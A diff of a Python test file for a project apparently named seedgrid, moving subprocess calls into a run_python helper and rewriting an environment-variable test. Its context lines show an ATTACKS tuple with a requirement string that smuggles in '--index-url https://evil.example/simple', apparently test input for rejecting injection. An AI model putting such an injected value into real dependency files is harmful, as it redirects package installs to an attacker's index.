@@ -11,8 +11,6 @@ import ast
 import json
 import logging
 import re
-import subprocess
-import sys
 import tomllib
 import zipfile
 from dataclasses import replace
@@ -20,6 +18,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from command import ROOT, run_python
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from packaging.requirements import Requirement
@@ -39,8 +38,6 @@ from seedgrid.export import bundle, script
 from seedgrid.formats import png
 from seedgrid.formats.links import link_query, read_link
 from seedgrid.models import registry
-
-ROOT = Path(__file__).parent.parent
 
 ATTACKS = (
     "2.13.0\n--index-url https://evil.example/simple\nevil",
@@ -213,11 +210,8 @@ def test_a_script_sets_no_variable_but_the_known_ones(tmp_path: Path) -> None:
     path = tmp_path / "head.py"
     path.write_text(f"{head}\nimport json\nprint(json.dumps(dict(os.environ)))\n", "utf-8")
 
-    said = subprocess.run(
-        [sys.executable, path], env={}, capture_output=True, text=True, check=True
-    )
+    variables = json.loads(run_python(path, env={}).stdout)
 
-    variables = json.loads(said.stdout)
     assert {name: value for name, value in variables.items() if name != "LC_CTYPE"} == {
         "MKL_CBWR": "AVX2,STRICT",
         "ATEN_CPU_CAPABILITY": "avx2",
